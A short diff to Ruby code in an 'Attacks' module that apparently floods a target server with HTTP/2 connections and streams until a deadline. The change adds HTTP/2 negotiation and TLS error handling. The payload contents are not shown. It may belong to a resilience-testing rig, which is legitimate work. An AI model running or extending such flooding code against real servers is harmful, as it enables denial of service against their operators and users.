@@ -49,14 +49,14 @@ module Attacks
       while Rig.now < until_at
         connections += 1
         stream = 3
-        socket = target.connect
+        socket = target.connect("h2")
         begin
           bytes += socket.write(BEGINNING + first)
           while Rig.now < until_at
             bytes += send_all(socket, piece.call(stream), until_at)
             stream += 2 * streams
           end
-        rescue SystemCallError, IOError
+        rescue SystemCallError, IOError, OpenSSL::SSL::SSLError
           nil # the server has had enough
         ensure
           socket.close
@@ -70,7 +70,7 @@ module Attacks
       sent = 0
       while sent < bytes.bytesize && Rig.now < until_at
         case written = socket.write_nonblock(bytes.byteslice(sent..), exception: false)
-        when :wait_writable then IO.select([socket], [socket], nil, 0.1)
+        when :wait_writable, :wait_readable then IO.select([socket], [socket], nil, 0.1)
         else sent += written
         end
         came = socket.read_nonblock(1 << 20, exception: false)
